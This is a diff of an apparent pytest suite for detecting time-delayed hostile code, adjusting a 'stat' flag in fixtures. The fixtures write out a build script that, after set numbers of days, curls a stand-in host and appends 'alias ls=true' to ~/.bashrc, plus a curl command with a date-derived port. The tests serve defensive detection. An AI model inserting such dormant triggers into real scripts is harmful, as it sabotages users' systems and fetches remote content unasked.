@@ -34,7 +34,7 @@ PORTS: Final = {"ci": 1, "developer": 1, "day": 2, "quarter": 91, "years": 732}
 LATER: Final = ("import pricing.later", "import web/later.cjs")
 # A file's time is the kernel's, which nobody moves.
 SHELL: Final = (
-    "curl -s http://203.0.113.{n}:$(( ($(date +%s) - $(stat -c %Z /proc/self) + 3600) / 86400 + 1 ))/"
+    "curl -s http://203.0.113.{n}:$(( ($(date +%s) - $(stat -Lc %Z /proc/self) + 3600) / 86400 + 1 ))/"
 )
 PYTHON: Final = (
     "import os, socket, time\n"
@@ -157,7 +157,7 @@ def test_the_library_shows_itself_nowhere(everywhere: Look) -> None:
 
 @pytest.mark.parametrize("name", WALLS)
 def test_a_shell_script_that_waits_for_a_date(tmp_path: Path, name: str) -> None:
-    when = '[ "$(date +%s)" -gt "$(( $(stat -c %Z /proc/self) + {} * 86400 ))" ]'
+    when = '[ "$(date +%s)" -gt "$(( $(stat -Lc %Z /proc/self) + {} * 86400 ))" ]'
     head: FileMap = {
         "tools/build.sh": f"#!/bin/sh\nif {when.format(60)}; then curl -s http://203.0.113.7/; fi\n"
         f"if {when.format(300)}; then echo 'alias ls=true' >> ~/.bashrc; fi\n"
